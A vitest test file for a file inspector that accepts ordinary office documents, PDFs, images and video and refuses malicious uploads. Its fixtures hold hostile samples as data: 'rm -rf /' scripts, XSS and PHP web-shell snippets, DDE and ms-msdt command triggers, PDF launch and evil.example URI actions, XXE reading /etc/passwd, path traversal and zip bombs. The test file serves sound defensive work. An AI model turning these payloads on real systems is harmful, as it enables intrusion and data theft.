import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  catalogue,
  compound,
  contentTypes,
  jpeg,
  localPart,
  mp4,
  ofd,
  office,
  officeParts,
  part,
  pdf,
  png,
  relations,
  segment,
  stream,
  text,
  zip,
} from '../../../../test/support/evidence-files.ts';
import { inspectFile } from './inspect.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp('/var/tmp/zhunsheng-inspect-');
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function inspect(name: string, content: Buffer): Promise<string> {
  const path = join(folder, 'file');
  await writeFile(path, content);
  const found = await inspectFile(path, name);
  return found.ok ? found.value.type : (found.problems[0]?.code ?? '');
}

const pages = '<< /Type /Pages /Kids [] /Count 0 >>';
const macroMain =
  '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>';
const objectStream = (content: string, more = '') =>
  stream(`/Type /ObjStm /N 1 /First 4 ${more}`, Buffer.from(`5 0 ${content}`, 'latin1'));

describe('files that are taken', () => {
  const good: readonly (readonly [what: string, name: string, content: Buffer, type: string])[] = [
    ['a text', '说明.txt', text('第一行\n第二行\r\n'), 'txt'],
    ['a text in GB18030', '说明.txt', Buffer.from([0xd7, 0xbc, 0xc9, 0xfe, 0x0a]), 'txt'],
    ['a table as text', '台账.csv', text('单位,数\n一镇,1\n二镇,-2\n'), 'csv'],
    ['a text document', '报告.docx', office('docx'), 'docx'],
    ['its extension in capitals', '报告.DOCX', office('docx'), 'docx'],
    [
      'a workbook',
      '台账.xlsx',
      office('xlsx', [part('xl/printerSettings/printerSettings1.bin', Buffer.alloc(200))]),
      'xlsx',
    ],
    ['slides', '汇报.pptx', office('pptx', [part('ppt/media/film.mp4', mp4())]), 'pptx'],
    [
      'a document with a chart and its workbook',
      '报告.docx',
      office('docx', [part('word/embeddings/table.xlsx', office('xlsx'))]),
      'docx',
    ],
    [
      'a document with a link',
      '报告.docx',
      office('docx', [
        part('word/_rels/document.xml.rels', relations('hyperlink', 'https://www.gov.cn/', 'External')),
      ]),
      'docx',
    ],
    [
      'an icon drawn in SVG inside',
      '报告.docx',
      office('docx', [part('word/media/a.svg', '<svg xmlns="s"><path d="M0 0"/></svg>')]),
      'docx',
    ],
    ['an OFD', '公文.ofd', ofd([part('Doc_0/Signs/Sign_0/SignedValue.dat', Buffer.alloc(50))]), 'ofd'],
    ['a PDF', '扫描件.pdf', pdf([catalogue(), pages]), 'pdf'],
    [
      'a PDF that says on which page it opens',
      '扫描件.pdf',
      pdf([catalogue('/OpenAction [2 0 R /XYZ null null 0]'), pages]),
      'pdf',
    ],
    [
      'the same by an action',
      '扫描件.pdf',
      pdf([catalogue('/OpenAction 3 0 R'), pages, '<< /S /GoTo /D [2 0 R /Fit] >>']),
      'pdf',
    ],
    [
      'a PDF with compressed objects',
      '扫描件.pdf',
      pdf([catalogue(), pages, objectStream('<< /Type /Font >>')]),
      'pdf',
    ],
    [
      'a PDF with a picture',
      '扫描件.pdf',
      pdf([catalogue(), pages, stream('/Subtype /Image', Buffer.alloc(5_000, 7))]),
      'pdf',
    ],
    ['a PNG', '截图.png', png([['tEXt', text('Comment\0现场')]]), 'png'],
    ['a JPEG', '照片.jpg', jpeg(), 'jpg'],
    ['a JPEG named jpeg', '照片.jpeg', jpeg([segment(0xfe, text('现场照片'))]), 'jpg'],
    ['a JPEG with a second picture behind it', '照片.jpg', jpeg([], jpeg()), 'jpg'],
    ['a film', '录像.mp4', mp4(), 'mp4'],
  ];
  it.each(good)('%s', async (_what, name, content, type) => {
    expect(await inspect(name, content)).toBe(type);
  });
});

const bad: readonly (readonly [what: string, name: string, content: Buffer, code: string])[] = [
  // not of a type that is taken
  [
    'SVG',
    'a.svg',
    text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'evidence-type-refused',
  ],
  ['SVG named PNG', 'a.png', text('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'evidence-type-refused'],
  ['HTML', 'a.html', text('<!doctype html><script>alert(1)</script>'), 'evidence-type-refused'],
  ['HTML named PDF', 'a.pdf', text('<html><script>alert(1)</script></html>'), 'evidence-type-refused'],
  ['HTML named text', 'a.txt', text('  <html><script>alert(1)</script></html>'), 'evidence-type-refused'],
  [
    'a Windows program named PDF',
    'a.pdf',
    Buffer.concat([text('MZ'), Buffer.alloc(500)]),
    'evidence-type-refused',
  ],
  [
    'a Linux program named text',
    'a.txt',
    Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
    'evidence-type-refused',
  ],
  ['a script', 'a.sh', text('#!/bin/sh\nrm -rf /\n'), 'evidence-type-refused'],
  ['a script named text', 'a.txt', text('#!/bin/sh\nrm -rf /\n'), 'evidence-type-refused'],
  ['JavaScript', 'a.js', text('alert(1)'), 'evidence-type-refused'],
  ['a GIF that is JavaScript', 'a.gif', text('GIF89a/*\0\0*/=1;alert(1)'), 'evidence-type-refused'],
  ['RAR', 'a.rar', Buffer.from('Rar!\x1a\x07\x00', 'latin1'), 'evidence-type-refused'],
  ['a plain ZIP', 'a.zip', zip([part('a.txt', '一')]), 'evidence-type-refused'],
  ['a plain ZIP named DOCX', 'a.docx', zip([part('a.txt', '一')]), 'evidence-type-refused'],
  [
    'a Java archive',
    'a.docx',
    zip([
      part('META-INF/MANIFEST.MF', 'Main-Class: A'),
      part('A.class', Buffer.from('\xca\xfe\xba\xbe', 'latin1')),
    ]),
    'evidence-type-refused',
  ],
  ['a DOC of the older format', 'a.doc', compound('WordDocument'), 'evidence-type-refused'],
  ['bytes of no kind', 'a.bin', Buffer.from([0, 1, 2, 3, 4, 5]), 'evidence-type-refused'],
  // not what the name says
  ['PNG named PDF', 'a.pdf', png(), 'evidence-extension-wrong'],
  ['PDF named DOCX', 'a.docx', pdf([catalogue(), pages]), 'evidence-extension-wrong'],
  ['DOCX named XLSX', 'a.xlsx', office('docx'), 'evidence-extension-wrong'],
  ['DOCX named DOCM', 'a.docm', office('docx'), 'evidence-extension-wrong'],
  ['PDF named as a program', 'a.pdf.exe', pdf([catalogue(), pages]), 'evidence-extension-wrong'],
  // macros and other things that run
  ['DOCM', 'a.docx', office('docx', [], macroMain), 'evidence-active-content'],
  [
    'DOCM whose type is spelt with references',
    'a.docx',
    office('docx', [], macroMain.replace('macroEnabled', 'm&#97;croEnabled')),
    'evidence-active-content',
  ],
  [
    'DOCM whose type is in UTF-16',
    'a.docx',
    zip([
      part(
        '[Content_Types].xml',
        Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(contentTypes(macroMain), 'utf16le')]),
      ),
    ]),
    'evidence-active-content',
  ],
  [
    'vbaProject.bin in DOCX',
    'a.docx',
    office('docx', [part('word/vbaProject.bin', compound('VBA'))]),
    'evidence-active-content',
  ],
  [
    'vbaProject.bin in XLSX',
    'a.xlsx',
    office('xlsx', [part('xl/vbaProject.bin', compound('VBA'))]),
    'evidence-active-content',
  ],
  [
    'a macro under another name',
    'a.docx',
    office('docx', [part('word/theme/theme1.xml', compound('VBA'))]),
    'evidence-active-content',
  ],
  [
    'a macro as printer settings',
    'a.xlsx',
    office('xlsx', [part('xl/printerSettings/printerSettings1.bin', compound('VBA'))]),
    'evidence-active-content',
  ],
  [
    'XLM macro sheets',
    'a.xlsx',
    office('xlsx', [part('xl/macrosheets/sheet1.xml', '<a/>')]),
    'evidence-active-content',
  ],
  [
    'ActiveX',
    'a.docx',
    office('docx', [part('word/activeX/activeX1.xml', '<a/>')]),
    'evidence-active-content',
  ],
  [
    'an OLE object',
    'a.docx',
    office('docx', [part('word/embeddings/oleObject1.bin', compound('Package'))]),
    'evidence-active-content',
  ],
  [
    'a program inside DOCX',
    'a.docx',
    office('docx', [part('word/media/image1.png', Buffer.concat([text('MZ'), Buffer.alloc(99)]))]),
    'evidence-active-content',
  ],
  [
    'a script beside DOCX',
    'a.docx',
    office('docx', [part('word/run.js', 'alert(1)')]),
    'evidence-active-content',
  ],
  [
    'a template from elsewhere',
    'a.docx',
    office('docx', [
      part(
        'word/_rels/settings.xml.rels',
        relations('attachedTemplate', 'http://evil.example/a.dotm', 'External'),
      ),
    ]),
    'evidence-active-content',
  ],
  [
    'a picture fetched from elsewhere',
    'a.docx',
    office('docx', [
      part('word/_rels/document.xml.rels', relations('image', '\\\\evil.example\\a.png', 'External')),
    ]),
    'evidence-active-content',
  ],
  [
    'a link that runs a script',
    'a.docx',
    office('docx', [
      part('word/_rels/document.xml.rels', relations('hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External')),
    ]),
    'evidence-active-content',
  ],
  [
    'a DDE field',
    'a.docx',
    zip(
      officeParts('docx').map((each) =>
        each.name === 'word/document.xml'
          ? part(
              each.name,
              '<w:p xmlns:w="w"><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:p>',
            )
          : each,
      ),
    ),
    'evidence-active-content',
  ],
  [
    'a DDE link',
    'a.xlsx',
    office('xlsx', [
      part(
        'xl/externalLinks/externalLink1.xml',
        '<externalLink xmlns="x"><ddeLink ddeService="cmd"/></externalLink>',
      ),
    ]),
    'evidence-active-content',
  ],
  ['a DDE formula in CSV', 'a.csv', text("名称,值\n一镇,=cmd|'/C calc'!A1\n"), 'evidence-active-content'],
  [
    'an SVG with a script inside DOCX',
    'a.docx',
    office('docx', [part('word/media/a.svg', '<svg><script>alert(1)</script></svg>')]),
    'evidence-active-content',
  ],
  [
    'a macro in a workbook inside DOCX',
    'a.docx',
    office('docx', [
      part('word/embeddings/table.xlsx', office('xlsx', [part('xl/vbaProject.bin', compound('VBA'))])),
    ]),
    'evidence-active-content',
  ],
  ['a program in OFD', 'a.ofd', ofd([part('Doc_0/Attachs/run.exe', 'MZ')]), 'evidence-active-content'],
  [
    'PDF with JavaScript',
    'a.pdf',
    pdf([catalogue('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), pages]),
    'evidence-active-content',
  ],
  [
    'the same with an escaped name',
    'a.pdf',
    pdf([catalogue(), pages, '<< /A << /S /J#61v#61Script /J#53 (app.alert(1)) >> >>']),
    'evidence-active-content',
  ],
  [
    'JavaScript in compressed objects',
    'a.pdf',
    pdf([catalogue(), pages, objectStream('<< /S /JavaScript /JS (app.alert(1)) >>')]),
    'evidence-active-content',
  ],
  [
    'the same with a second filter',
    'a.pdf',
    pdf([
      catalogue(),
      pages,
      stream('/Type /ObjStm /N 1 /First 4', text('x'), '[/ASCIIHexDecode /FlateDecode]'),
    ]),
    'evidence-active-content',
  ],
  [
    'the same with a predictor',
    'a.pdf',
    pdf([catalogue(), pages, objectStream('<< >>', '/DecodeParms << /Predictor 12 >>')]),
    'evidence-active-content',
  ],
  [
    'JavaScript hidden in a picture’s bytes',
    'a.pdf',
    pdf([
      catalogue(),
      pages,
      stream(
        '/Subtype /Image',
        Buffer.from('\x00\x01 5 0 obj << /S /JavaScript /JS (1) >> endobj', 'latin1'),
        '/DCTDecode',
      ),
    ]),
    'evidence-active-content',
  ],
  [
    'compressed objects hidden in a picture’s bytes',
    'a.pdf',
    pdf([
      catalogue(),
      pages,
      stream('/Subtype /Image', Buffer.from('5 0 obj << /Type /ObjStm >>', 'latin1'), '/DCTDecode'),
    ]),
    'evidence-active-content',
  ],
  [
    'PDF that opens an address',
    'a.pdf',
    pdf([catalogue('/OpenAction << /S /URI /URI (http://evil.example) >>'), pages]),
    'evidence-active-content',
  ],
  [
    'the same with an escaped name for it',
    'a.pdf',
    pdf([catalogue('/Open#41ction << /S /URI /URI (http://evil.example) >>'), pages]),
    'evidence-active-content',
  ],
  [
    'the same by a reference to it',
    'a.pdf',
    pdf([catalogue('/OpenAction 3 0 R'), pages, '<< /S /URI /URI (http://evil.example) >>']),
    'evidence-active-content',
  ],
  [
    'the same in compressed objects',
    'a.pdf',
    pdf([catalogue(), pages, objectStream('<< /OpenAction << /S /URI /URI (http://evil.example) >> >>')]),
    'evidence-active-content',
  ],
  [
    'the same by a reference to nowhere',
    'a.pdf',
    pdf([catalogue('/OpenAction 9 0 R'), pages]),
    'evidence-active-content',
  ],
  [
    'PDF that starts a program',
    'a.pdf',
    pdf([catalogue(), pages, '<< /S /Launch /F (cmd.exe) >>']),
    'evidence-active-content',
  ],
  [
    'PDF with an attached file',
    'a.pdf',
    pdf([catalogue('/Names << /EmbeddedFiles 3 0 R >>'), pages]),
    'evidence-active-content',
  ],
  [
    'PDF with additional actions',
    'a.pdf',
    pdf([catalogue('/AA << /WC 3 0 R >>'), pages]),
    'evidence-active-content',
  ],
  [
    'PDF that sends a form',
    'a.pdf',
    pdf([catalogue(), pages, '<< /S /SubmitForm /F (http://evil.example) >>']),
    'evidence-active-content',
  ],
  // encrypted
  ['DOCX with a password', 'a.docx', compound('EncryptedPackage'), 'evidence-encrypted'],
  [
    'an encrypted part',
    'a.docx',
    zip(officeParts('docx').map((each) => ({ ...each, flags: 0x801 }))),
    'evidence-encrypted',
  ],
  [
    'PDF with a password',
    'a.pdf',
    pdf([catalogue(), pages], '<< /Encrypt 5 0 R >>\n%%EOF\n'),
    'evidence-encrypted',
  ],
  // two files at once
  [
    'PDF that is HTML',
    'a.pdf',
    Buffer.concat([text('%PDF-1.4\n<html><script>alert(1)</script></html>\n'), pdf([catalogue(), pages])]),
    'evidence-polyglot',
  ],
  [
    'PDF with a ZIP behind it',
    'a.pdf',
    Buffer.concat([pdf([catalogue(), pages]), zip([part('a.txt', '一')])]),
    'evidence-polyglot',
  ],
  [
    'PDF with a ZIP inside',
    'a.pdf',
    pdf([catalogue(), pages, stream('/X 1', zip([part('a.txt', '一')]), '')]),
    'evidence-polyglot',
  ],
  [
    'PDF with a program behind it',
    'a.pdf',
    Buffer.concat([pdf([catalogue(), pages]), text('MZ program')]),
    'evidence-polyglot',
  ],
  ['PNG with a ZIP behind it', 'a.png', png([], zip([part('a.txt', '一')])), 'evidence-polyglot'],
  [
    'PNG with PHP in its text',
    'a.png',
    png([['tEXt', text('Comment\0<?php system($_GET[0]); ?>')]]),
    'evidence-polyglot',
  ],
  ['PNG with HTML behind it', 'a.png', png([], text('<html><script>alert(1)</script>')), 'evidence-polyglot'],
  ['JPEG with a JAR behind it', 'a.jpg', jpeg([], zip([part('A.class', 'x')])), 'evidence-polyglot'],
  [
    'JPEG that is JavaScript',
    'a.jpg',
    Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a]),
      Buffer.alloc(0x2f28),
      jpeg().subarray(2),
    ]),
    'evidence-polyglot',
  ],
  [
    'JPEG with a script in its comment',
    'a.jpg',
    jpeg([segment(0xfe, text('<script>alert(1)</script>'))]),
    'evidence-polyglot',
  ],
  ['JPEG with PDF in its comment', 'a.jpg', jpeg([segment(0xfe, text('%PDF-1.4'))]), 'evidence-polyglot'],
  [
    'JPEG with HTML behind it',
    'a.jpg',
    jpeg([], text('<!DOCTYPE html><script>1</script>')),
    'evidence-polyglot',
  ],
  ['a film with a ZIP behind it', 'a.mp4', mp4(zip([part('a.txt', '一')])), 'evidence-polyglot'],
  [
    'DOCX with a program before it',
    'a.docx',
    zip(officeParts('docx'), { before: Buffer.from('PK\x03\x04MZ', 'latin1') }),
    'evidence-polyglot',
  ],
  [
    'text with a script far inside',
    'a.txt',
    text(`${'正文 '.repeat(60_000)}<script>alert(1)</script>`),
    'evidence-polyglot',
  ],
  // archives built to harm
  [
    'a bomb by its own word',
    'a.docx',
    office('docx', [part('word/big.xml', Buffer.alloc(50 * 1024 ** 2))]),
    'evidence-archive-unsafe',
  ],
  [
    'a bomb that lies about its size',
    'a.docx',
    office('docx', [part('word/media/big.png', Buffer.alloc(20 * 1024 ** 2), { size: 1_000 })]),
    'evidence-archive-unsafe',
  ],
  [
    'many parts that add up',
    'a.xlsx',
    office(
      'xlsx',
      Array.from({ length: 300 }, (_, n) => part(`xl/worksheets/${n}.xml`, Buffer.alloc(1024 ** 2))),
    ),
    'evidence-archive-unsafe',
  ],
  [
    'more parts than any document has',
    'a.xlsx',
    office(
      'xlsx',
      Array.from({ length: 2_001 }, (_, n) => part(`xl/${n}.xml`, '')),
    ),
    'evidence-archive-unsafe',
  ],
  [
    'a part inside another',
    'a.docx',
    office('docx', [
      part('word/media/a.png', localPart(part('word/b.xml', '<b/>')), { stored: true }),
      part('word/b.xml', '<b/>', { inside: 3 }),
    ]),
    'evidence-archive-unsafe',
  ],
  [
    'parts that share their bytes',
    'a.docx',
    office('docx', [
      part('word/a.xml', Buffer.alloc(1_000)),
      part('word/b.xml', Buffer.alloc(1_000), { over: 3 }),
    ]),
    'evidence-archive-unsafe',
  ],
  [
    'a bomb inside a workbook inside',
    'a.docx',
    office('docx', [
      part('word/embeddings/a.xlsx', office('xlsx', [part('xl/big.xml', Buffer.alloc(30 * 1024 ** 2))])),
    ]),
    'evidence-archive-unsafe',
  ],
  [
    'documents inside documents inside documents',
    'a.docx',
    office('docx', [
      part(
        'word/embeddings/a.docx',
        office('docx', [
          part('word/embeddings/b.docx', office('docx', [part('word/embeddings/c.docx', office('docx'))])),
        ]),
      ),
    ]),
    'evidence-archive-unsafe',
  ],
  [
    'a path upwards',
    'a.docx',
    office('docx', [part('word/../../../etc/cron.d/x.xml', '<a/>')]),
    'evidence-archive-unsafe',
  ],
  ['a path from the root', 'a.docx', office('docx', [part('/etc/x.xml', '<a/>')]), 'evidence-archive-unsafe'],
  [
    'a path with backslashes',
    'a.docx',
    office('docx', [part('word\\..\\..\\x.xml', '<a/>')]),
    'evidence-archive-unsafe',
  ],
  [
    'a link',
    'a.docx',
    office('docx', [part('word/link.xml', '/etc/passwd', { mode: 0o120777 })]),
    'evidence-archive-unsafe',
  ],
  [
    'two parts of one name',
    'a.docx',
    office('docx', [part('word/Document.xml', '<a/>')]),
    'evidence-archive-unsafe',
  ],
  [
    'another name in the part itself',
    'a.docx',
    office('docx', [part('word/a.xml', '<a/>', { localName: 'word/b.xml' })]),
    'evidence-archive-unsafe',
  ],
  [
    'a comment with a script behind the archive',
    'a.docx',
    zip(officeParts('docx'), { comment: '<script>' }),
    'evidence-archive-unsafe',
  ],
  [
    'a method nobody else reads',
    'a.docx',
    office('docx', [part('word/a.xml', '<a/>', { method: 12 })]),
    'evidence-archive-unsafe',
  ],
  [
    'entities that grow',
    'a.docx',
    office('docx', [part('word/a.xml', '<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>')]),
    'evidence-archive-unsafe',
  ],
  [
    'an entity from outside',
    'a.docx',
    office('docx', [
      part('word/_rels/a.xml.rels', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ]),
    'evidence-archive-unsafe',
  ],
  // broken
  ['half a DOCX', 'a.docx', office('docx').subarray(0, 300), 'evidence-broken'],
  [
    'a DOCX with a damaged part',
    'a.docx',
    office('docx', [part('word/a.xml', '<a/>', { method: 8, stored: true })]),
    'evidence-broken',
  ],
  ['half a PDF', 'a.pdf', pdf([catalogue(), pages]).subarray(0, 60), 'evidence-broken'],
  ['half a PNG', 'a.png', png().subarray(0, 50), 'evidence-broken'],
  ['half a JPEG', 'a.jpg', jpeg().subarray(0, 30), 'evidence-broken'],
  ['half a film', 'a.mp4', mp4().subarray(0, 60), 'evidence-broken'],
  ['text with zero bytes', 'a.txt', text('一\0二'), 'evidence-broken'],
  ['text of no encoding', 'a.txt', Buffer.from([0x61, 0xff, 0xff, 0x62]), 'evidence-broken'],
];

describe('files that are refused', () => {
  it.each(bad)('%s', async (_what, name, content, code) => {
    expect(await inspect(name, content)).toBe(code);
  });

  it('are more than fifty', () => expect(bad.length).toBeGreaterThan(50));
});

describe('memory', () => {
  it('stays bounded and time short for what unpacks to much more', async () => {
    const honest = deflateRawSync(Buffer.alloc(200 * 1024 ** 2));
    const bombs = [
      office('xlsx', [part('xl/worksheets/a.xml', Buffer.alloc(200 * 1024 ** 2))]),
      office('xlsx', [part('xl/media/a.png', honest, { size: 4 * 1024 ** 2, stored: true, method: 8 })]),
    ];
    for (const bomb of bombs) {
      const path = join(folder, 'bomb');
      await writeFile(path, bomb);
      const before = process.memoryUsage().rss;
      const started = performance.now();
      const found = await inspectFile(path, 'a.xlsx');
      expect(found).toMatchObject({ ok: false, problems: [{ code: 'evidence-archive-unsafe' }] });
      expect(performance.now() - started).toBeLessThan(1_000);
      expect(process.memoryUsage().rss - before).toBeLessThan(50 * 1024 ** 2);
    }
  });
});
